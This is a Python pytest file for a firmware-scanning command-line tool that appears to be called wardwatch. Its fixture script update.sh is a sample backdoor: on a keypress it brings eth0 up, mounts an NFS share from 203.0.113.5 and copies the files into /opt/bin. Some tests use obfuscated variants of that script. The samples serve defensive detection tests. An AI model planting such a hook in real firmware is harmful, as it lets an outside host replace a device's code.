"""Firmware on the command line: exit status, documents, mixed inputs, and two versions beside each other."""

import json
import struct
import sys
from collections.abc import Callable
from importlib.resources import files
from pathlib import Path
from typing import Any, NamedTuple

import jsonschema
import pytest

from wardwatch.cli import main

SCHEMA = json.loads(files("wardwatch.report").joinpath("schema/wardwatch.report.v1.json").read_text("utf-8"))
PCAP_HEAD = struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 262144, 1)
INITTAB = "::sysinit:/etc/init.d/rcS\n"
RC = "#!/bin/sh\nmount -t proc proc /proc\n/opt/bin/update.sh\n/opt/bin/monitor.sh\n"
UPDATE = """#!/bin/sh
read -n1 -t 2 key
if [ "$key" = C ]; then
  ifconfig eth0 up
  mount -o nolock -t nfs 203.0.113.5:/pm /mnt && cp -rf /mnt/* /opt/bin/
  umount /mnt
fi
"""
MONITOR = "#!/bin/sh\necho ready\n"


class Ran(NamedTuple):
    status: int
    out: str
    err: str


Run = Callable[..., Ran]


@pytest.fixture
def run(monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]) -> Run:
    def call(*arguments: str | Path) -> Ran:
        monkeypatch.setattr(sys, "argv", ["wardwatch", *map(str, arguments)])
        with pytest.raises(SystemExit) as ended:
            main.run()
        said = capfd.readouterr()
        return Ran(int(str(ended.value.code)), said.out, said.err)

    return call


def root(folder: Path, **changed: str) -> Path:
    """A small root file system; `changed` replaces scripts by name, '' leaves one out."""
    texts = {"rcS": RC, "update": UPDATE, "monitor": MONITOR, **changed}
    places = {"rcS": "etc/init.d/rcS", "update": "opt/bin/update.sh", "monitor": "opt/bin/monitor.sh"}
    for name in ("etc/init.d", "opt/bin", "bin", "mnt"):
        (folder / name).mkdir(parents=True)
    (folder / "etc/inittab").write_text(INITTAB)
    for name, text in texts.items():
        if text:
            path = folder / places[name]
            path.write_text(text)
            path.chmod(0o755)
    return folder


def document(ran: Ran) -> Any:  # noqa: ANN401  # any JSON
    said = json.loads(ran.out)
    jsonschema.validate(said, SCHEMA)
    return said


def test_a_hidden_function_is_1_and_its_path_is_evidence(run: Run, tmp_path: Path) -> None:
    ran = run("scan", root(tmp_path / "image"), "--json", "-")
    assert ran.status == 1
    said = document(ran)
    finding = next(each for each in said["findings"] if each["rule"] == "firmware.reverse-backdoor")
    where = finding["evidence"][0]["where"]
    assert (finding["severity"], where["trigger"], where["peer"]) == ("critical", "key", "203.0.113.5")
    assert where["call_path"] == ["/etc/inittab", "/etc/init.d/rcS", "/opt/bin/update.sh"]
    assert said["subjects"][0]["kind"] == "image"
    steps = [step["behaviour"] for step in said["dissections"][0]["chains"][0]["steps"]]
    assert steps == ["interface-up", "remote-mount", "copy", "unmount"]


def test_a_harmless_one_is_0(run: Run, tmp_path: Path) -> None:
    ran = run("scan", root(tmp_path / "image", update=MONITOR), "--json", "-")
    assert (ran.status, document(ran)["verdict"]) == (0, "clear")


def test_what_is_not_known_is_3(run: Run, tmp_path: Path) -> None:
    unknown = '#!/bin/sh\nmount -t nfs "$(printf %s "$(head -c 20 /dev/urandom)")":/pm /mnt\n'
    ran = run("scan", root(tmp_path / "image", update=unknown), "--json", "-")
    assert (ran.status, document(ran)["verdict"]) == (3, "unknown")


@pytest.mark.parametrize("interpreter", ["/usr/bin/perl", "/usr/bin/php-cli", "/opt/own/shell"])
def test_a_script_of_an_unknown_language_is_never_clear(run: Run, tmp_path: Path, interpreter: str) -> None:
    ran = run("scan", root(tmp_path / "image", update=f"#!{interpreter}\nsystem('mount 203.0.' . '113.5:/pm');\n"))
    assert (ran.status, "its language is not known here" in " ".join(ran.out.split())) == (3, True)


def test_a_script_that_is_too_long_is_never_clear(run: Run, tmp_path: Path) -> None:
    long = "#!/bin/sh\n" + "# nothing\n" * 150_000 + "mount -t nfs 203.0.113.5:/pm /mnt\n"
    assert run("scan", root(tmp_path / "image", update=long)).status == 3


def test_a_peer_in_a_programs_environment_is_told(run: Run, tmp_path: Path) -> None:
    given = "#!/bin/sh\nSERVER=198.51.100.9 RELEASE=198.51.100.77 /opt/bin/agent\n"
    said = document(run("scan", root(tmp_path / "image", update=given), "--json", "-"))
    peers = {each["where"].get("peer") for one in said["findings"] for each in one["evidence"]}
    assert "198.51.100.9" in peers


def test_a_script_by_itself(run: Run, tmp_path: Path) -> None:
    path = tmp_path / "update.sh"
    path.write_text(UPDATE)
    ran = run("scan", path, "--json", "-")
    assert ran.status == 1
    assert document(ran)["subjects"][0]["kind"] == "program"


def test_captures_and_images_make_one_report(run: Run, tmp_path: Path) -> None:
    (tmp_path / "quiet.pcap").write_bytes(PCAP_HEAD)
    ran = run("scan", tmp_path / "quiet.pcap", root(tmp_path / "image"), "--json", "-")
    said = document(ran)
    assert ran.status == 1
    assert [entry["kind"] for entry in said["inputs"]] == ["pcap", "firmware image"]


def test_the_same_input_gives_the_same_bytes(run: Run, tmp_path: Path) -> None:
    image = root(tmp_path / "image")
    assert run("scan", image, "--json", "-").out == run("scan", image, "--json", "-").out


def test_a_patch_that_removes_it_is_0(run: Run, tmp_path: Path) -> None:
    old, new = root(tmp_path / "2.0.6"), root(tmp_path / "2.1.0", update=MONITOR)
    ran = run("firmware", "compare", old, new, "--json", "-")
    said = document(ran)
    assert (ran.status, said["verdict"]) == (0, "fixed")
    assert all(change["checked"] for change in said["comparison"]["changes"])


def test_a_patch_that_takes_eth0_down_first_is_1(run: Run, tmp_path: Path) -> None:
    old, new = (
        root(tmp_path / "2.0.6"),
        root(tmp_path / "2.0.8", rcS=RC.replace("mount -t", "ifconfig eth0 down\nmount -t")),
    )
    ran = run("firmware", "compare", old, new, "--json", "-", "--mitigation", "eth0-down-at-start")
    said = document(ran)
    assert (ran.status, said["verdict"]) == (1, "not-fixed")
    change = next(each for each in said["comparison"]["changes"] if each["rule"] == "firmware.reverse-backdoor")
    assert "takes eth0 up again" in change["why"]
    measures = {each["name"]: each["holds"] for each in change["after"]["mitigations"]}
    assert measures == {"interface-down": "does not stop", "eth0-down-at-start": "does not stop"}


def test_a_patch_that_hides_its_command_is_3(run: Run, tmp_path: Path) -> None:
    hidden = '#!/bin/sh\n"$(head -c 20 /dev/urandom)"\n'
    old, new = root(tmp_path / "2.0.6"), root(tmp_path / "2.1.0", update=hidden)
    ran = run("firmware", "compare", old, new, "--json", "-")
    assert (ran.status, document(ran)["verdict"]) == (3, "unknown")


def test_a_measure_that_does_not_exist_is_2(run: Run, tmp_path: Path) -> None:
    image = root(tmp_path / "image")
    ran = run("firmware", "compare", image, image, "--mitigation", "prayer")
    assert ran.status == 2
    assert "block-address" in ran.err
    assert ran.err.count("\n") == 1


def test_a_bill_of_materials(run: Run, tmp_path: Path) -> None:
    said = json.loads(run("firmware", "sbom", root(tmp_path / "image")).out)
    assert said["bomFormat"] == "CycloneDX"
    assert any("update.sh" in json.dumps(part) for part in said["components"])


@pytest.mark.parametrize("command", [["firmware"], ["firmware", "compare"], ["firmware", "sbom"]])
def test_help_shows_an_example(run: Run, command: list[str]) -> None:
    ran = run(*command, "--help")
    assert "Example: wardwatch firmware" in ran.out


def test_other_commands_do_not_load_the_domain(tmp_path: Path) -> None:
    code = (
        "import sys; sys.argv = ['wardwatch', '--version']\n"
        "from wardwatch.cli import main\n"
        "try: main.run()\n"
        "except SystemExit: pass\n"
        "assert not [name for name in sys.modules if name.startswith('wardwatch.firmware')]"
    )
    import subprocess  # noqa: PLC0415  # only here

    assert subprocess.run([sys.executable, "-c", code], cwd=tmp_path, check=False).returncode == 0


def test_a_folder_of_images_and_a_broken_one(run: Run, tmp_path: Path) -> None:
    folder = tmp_path / "downloads"
    folder.mkdir()
    (folder / "a.elf").write_bytes(b"\x7fELF\x01")
    (folder / "quiet.pcap").write_bytes(PCAP_HEAD)
    ran = run("scan", folder, "--json", "-")
    said = document(ran)
    assert ran.status == 3
    assert any("a.elf" in gap["subject"] and gap["bears_on"] == ["*"] for gap in said["gaps"])


def test_two_images_of_one_name_are_told_apart(run: Run, tmp_path: Path) -> None:
    one, other = root(tmp_path / "a" / "image"), root(tmp_path / "b" / "image", update=MONITOR)
    said = document(run("scan", one, other, "--json", "-"))
    verdicts = {subject["id"]: subject["verdict"] for subject in said["subjects"]}
    assert verdicts == {str(one): "found", str(other): "clear"}
